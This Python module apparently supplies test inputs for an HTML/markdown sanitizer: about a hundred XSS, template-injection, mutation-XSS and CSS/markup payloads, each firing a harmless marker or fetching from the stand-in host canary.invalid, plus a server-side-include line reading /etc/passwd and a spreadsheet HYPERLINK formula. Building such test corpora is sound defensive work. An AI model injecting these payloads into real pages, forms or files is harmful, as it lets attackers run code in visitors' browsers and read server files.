"""Texts that would do something if a page took them for more than text.

Each runs `PWN` or asks ELSEWHERE for something when it works. Grouped by what they abuse.
"""

ELSEWHERE = "canary.invalid"
PWN = "window.__pwned=1"
_URL = f"http://{ELSEWHERE}"

SCRIPTS = (
    f"<script>{PWN}</script>",
    f"<ScRiPt >{PWN}</sCrIpT\t>",
    f"<script src={_URL}/a.js></script>",
    f"<script src=//{ELSEWHERE}/b.js></script>",
    f"<script type=module>import('{_URL}/c.js')</script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<script\x0c>{PWN}</script>",
    f"<<script>{PWN}//<</script>",
)
HANDLERS = (
    f"<img src=x onerror={PWN}>",
    f'<img src="x" onerror="{PWN}"',
    f"<IMG\nSRC=x\nONERROR\n=\n'{PWN}'>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f"<details open ontoggle={PWN}>x</details>",
    f"<video><source onerror={PWN}></video>",
    f"<audio src=x onerror={PWN}>",
    f"<marquee onstart={PWN}>x</marquee>",
    f"<div style='animation:x' onanimationstart={PWN}>x</div><style>@keyframes x{{}}</style>",
    f"<a href=# onmouseover={PWN} style='position:fixed;inset:0'>over</a>",
    f"<select autofocus onfocus={PWN}>",
    f"<object data=x onerror={PWN}></object>",
    f"<p/onclick={PWN}/style=position:fixed;inset:0>x",
)
LINKS = (
    f"<a href='javascript:{PWN}'>click</a>",
    f"[click](javascript:{PWN})",
    f"[click](JaVaScRiPt:{PWN})",
    f"[click](javascript&colon;{PWN})",
    f"[click](java&#10;script:{PWN})",
    f"[click](\x01javascript:{PWN})",
    f"[click](data:text/html,<script>{PWN}</script>)",
    f"[click](vbscript:{PWN})",
    f"<javascript:{PWN}>",
    f"[click][x]\n\n[x]: javascript:{PWN}",
    f'[click](http://localhost "onmouseover={PWN}")',
    f'[click](http://localhost"onmouseover="{PWN})',
)
IMAGES = (
    f"![x]({_URL}/md.png)",
    f'![x](x"onerror="{PWN})',
    f'![x](x "onerror={PWN}")',
    f"![x][i]\n\n[i]: {_URL}/ref.png",
    f"<img srcset='{_URL}/1.png 1x, {_URL}/2.png 2x'>",
    f"<picture><source srcset={_URL}/p.png><img src=x></picture>",
    f"<img src={_URL}/plain.png>",
    f"<svg><image href={_URL}/svg.png /></svg>",
    f"<input type=image src={_URL}/input.png>",
    f"<video poster={_URL}/poster.png></video>",
)
SVG_MATHML = (
    f"<svg onload={PWN}>",
    f"<svg/onload={PWN}//",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{PWN}'><text x=20 y=20>x</text></a></svg>",
    f'<svg><use href=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>\'></use></svg>',
    f"<math><maction actiontype='statusline#http://localhost' xlink:href='javascript:{PWN}'>x</maction></math>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject></svg>",
)
TEMPLATES = (
    f"${{{PWN}}}",
    f"`${{(() => {{ {PWN} }})()}}`",
    f"{{{{constructor.constructor('{PWN}')()}}}}",
    f"{{{{#with this}}}}{{{{lookup (constructor.constructor '{PWN}')}}}}{{{{/with}}}}",
    f"{{{{{{ {PWN} }}}}}}",
    f"<%= {PWN} %> #{{{PWN}}} @({PWN})",
    "{{ self.__init__.__globals__ }} {% for x in () %}{% endfor %}",
    f"{{@html '<img src=x onerror={PWN}>'}}",
)
FORMULAS = (
    f"$\\href{{javascript:{PWN}}}{{x}}$",
    f"$\\htmlData{{x=<img src=x onerror={PWN}>}}{{y}}$",
    f"$\\url{{javascript:{PWN}}}$",
    f"$\\includegraphics{{{_URL}/tex.png}}$",
    f"$$\\htmlStyle{{background:url({_URL}/style)}}{{x}}$$",
    f"$\\text{{<img src=x onerror={PWN}>}}$",
    f"\\(\\unicode{{<script>{PWN}</script>}}\\) \\[\\href{{data:text/html,<script>{PWN}</script>}}{{y}}\\]",
    "$\\def\\x{\\x\\x}\\x$ <b>after</b>",
    f"\ue000\\href{{javascript:{PWN}}}{{x}}\ue001 \ue002\\htmlId{{p-render}}{{x}}\ue003",
)
FENCES = (
    f"```html\n<img src=x onerror={PWN}>\n```",
    f'```"><img src=x onerror={PWN}>\ncode\n```',
    f"````\n```\n<script>{PWN}</script>\n````",
    f"`<img src=x onerror={PWN}>`",
    f'```mermaid\ngraph TD; A[<img src=x onerror={PWN}>]-->B; click A "javascript:{PWN}"\n```',
    f"~~~js'onmouseover='{PWN}\nx\n~~~",
    f"    <script>{PWN}</script>",
)
NESTED = (  # parsed once they are harmless, parsed again they are not
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={PWN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f"<!--><img src=x onerror={PWN}>-->",
    f"<![CDATA[<img src=x onerror={PWN}>]]>",
    f"<textarea></textarea><img src=x onerror={PWN}></textarea>",
    f"<xmp><p title='</xmp><img src=x onerror={PWN}>'>",
    f"<template><img src=x onerror={PWN}></template>",
    f"&lt;img src=x onerror={PWN}&gt; &amp;lt;script&amp;gt;{PWN}&amp;lt;/script&amp;gt;",
)
ESCAPES = (
    f"</script><script>{PWN}</script>",
    f"</style><script>{PWN}</script>",
    f"</title></textarea></template><script>{PWN}</script>",
    f"<!--<script>{PWN}</script>",
    f"'\"><img src=x onerror={PWN}>",
    f"';{PWN};//\\';{PWN};//\";{PWN};//--></script>",
    f"\u2028{PWN}\u2029//",
    f"\uff1cscript\uff1e{PWN}\uff1c/script\uff1e",
    f"\u202e<script>{PWN}</script>\u202c\u200b\ufeff",
    f"<script\u00a0src=x>{PWN}</script>",
    f"%3Cscript%3E{PWN}%3C/script%3E \\u003cscript\\u003e{PWN}\\x3c/script\\x3e",
    f"| a | b |\n|---|---|\n| <img src=x onerror={PWN}> | [x](javascript:{PWN}) |",
)
ELEMENTS = (
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    f"<iframe src={_URL}/frame></iframe>",
    f"<embed src={_URL}/embed>",
    f"<base href={_URL}/>",
    f"<meta http-equiv=refresh content='0;url={_URL}/refresh'>",
    f"<form action={_URL}/form><button autofocus>send</button></form>",
    f"<form action='javascript:{PWN}'><input type=submit value=go></form>",
    f"<link rel=stylesheet href={_URL}/sheet.css>",
    f"<link rel=prefetch href={_URL}/prefetch><link rel=dns-prefetch href=//{ELSEWHERE}>",
    f"<style>@import '{_URL}/import.css'; body{{background:url({_URL}/css)}}</style>",
    f"<div style='background:url({_URL}/inline);position:fixed;inset:0;z-index:99999'>over everything</div>",
    "<div id=p-why></div><button data-do=submit id=submit>trick</button><img name=palate><a id=palateStrings>",
    "<!--#exec cmd='touch /tmp/pwned' --><!--#include virtual='/etc/passwd' -->",
    f"=HYPERLINK(\"{_URL}/csv\",\"x\")",
)  # fmt: skip

GROUPS = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "links": LINKS, "images": IMAGES, "svg and mathml": SVG_MATHML,
    "templates": TEMPLATES, "formulas": FORMULAS, "fences": FENCES, "nested": NESTED, "escapes": ESCAPES,
    "elements": ELEMENTS,
}  # fmt: skip
PAYLOADS = tuple(text for group in GROUPS.values() for text in group)
SHORT = tuple(text for text in PAYLOADS if len(text) <= 60 and text.isprintable())  # where names allow
